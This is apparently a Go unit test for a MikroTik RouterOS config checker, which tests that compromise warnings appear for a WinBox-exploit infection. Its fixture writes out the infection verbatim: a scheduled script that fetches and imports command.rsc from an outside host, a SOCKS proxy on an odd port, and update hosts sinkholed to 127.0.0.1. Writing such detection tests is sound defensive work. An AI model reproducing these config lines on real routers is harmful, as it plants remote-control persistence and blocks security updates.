package check

import (
	"strings"
	"testing"
)

// TestCompromiseWarnings (rc28 D0): the shape of a router infected through
// the WinBox exploit (a scheduler running a script that fetches a .rsc and
// imports it, SOCKS on an odd port, MikroTik's update hosts pointed at
// 127.0.0.1) got "no problem found" and no word of it. Each sign is a
// warning naming its line, with no fix line. Control: a script that
// fetches a backup without importing, SOCKS untouched, a static DNS entry
// of the LAN's own: no warning.
func TestCompromiseWarnings(t *testing.T) {
	text := `# nov/28/2020 07:03:06 by RouterOS 6.43.7
/ip address
add address=182.23.24.98/30 interface=ether1 network=182.23.24.96
add address=192.168.88.1/24 interface=ether2 network=192.168.88.0
/ip dns static
add address=127.0.0.1 name=upgrade.mikrotik.com
add address=127.0.0.1 name=download.mikrotik.com
add address=10.9.9.9 name=update.mikrotik.com
/ip route
add gateway=182.23.24.97
/ip socks
set enabled=yes max-connections=500 port=9175
/system scheduler
add interval=1m name=fetch1m on-event=fetch policy=ftp,reboot,read,write
add interval=5m name=inline on-event=":do { /tool fetch url=http://x.example/a.rsc }; /import file-name=a.rsc"
/system script
add name=fetch owner=system source=":do { /tool fetch url=https://core.zeroday.ltd/command.rsc };:delay 4000ms;/import file-name=command.rsc;/file remove command.rsc"
`
	p := loadText(t, text)
	got := strings.Join(p.CompromiseWarnings(), "\n")
	for _, want := range []string{
		`line 17, script "fetch" downloads a file with /tool fetch and runs it with /import`,
		`line 14, scheduler "fetch1m" runs that script (line 17) every 1m`,
		`line 15, scheduler "inline" downloads a file with /tool fetch and runs it with /import every 5m`,
		`line 12, the SOCKS proxy is on (port 9175)`,
		`line 6, /ip dns static points MikroTik's update host upgrade.mikrotik.com at 127.0.0.1`,
		`line 7, /ip dns static points MikroTik's update host download.mikrotik.com at 127.0.0.1`,
		`line 8, /ip dns static points MikroTik's update host update.mikrotik.com at 10.9.9.9`,
	} {
		if !strings.Contains(got, want) {
			t.Errorf("warnings lack %q:\n%s", want, got)
		}
	}
	if n := len(p.CompromiseWarnings()); n != 7 {
		t.Errorf("%d warnings, want 7:\n%s", n, got)
	}
	if d := p.OfflineDocument(); !strings.Contains(strings.Join(d.Warnings, "\n"), "sign of compromise") {
		t.Errorf("the report's warnings lack the signs: %v", d.Warnings)
	}

	control := `# nov/28/2020 07:03:06 by RouterOS 6.43.7
/ip address
add address=182.23.24.98/30 interface=ether1 network=182.23.24.96
add address=192.168.88.1/24 interface=ether2 network=192.168.88.0
/ip dns static
add address=192.168.88.10 name=nas.lan
/ip route
add gateway=182.23.24.97
/system scheduler
add interval=1d name=backup on-event=backup
/system script
add name=backup source="/system backup save name=b; /tool fetch upload=yes mode=ftp src-path=b.backup address=192.168.88.10"
`
	if w := loadText(t, control).CompromiseWarnings(); len(w) != 0 {
		t.Errorf("control: %v", w)
	}
}
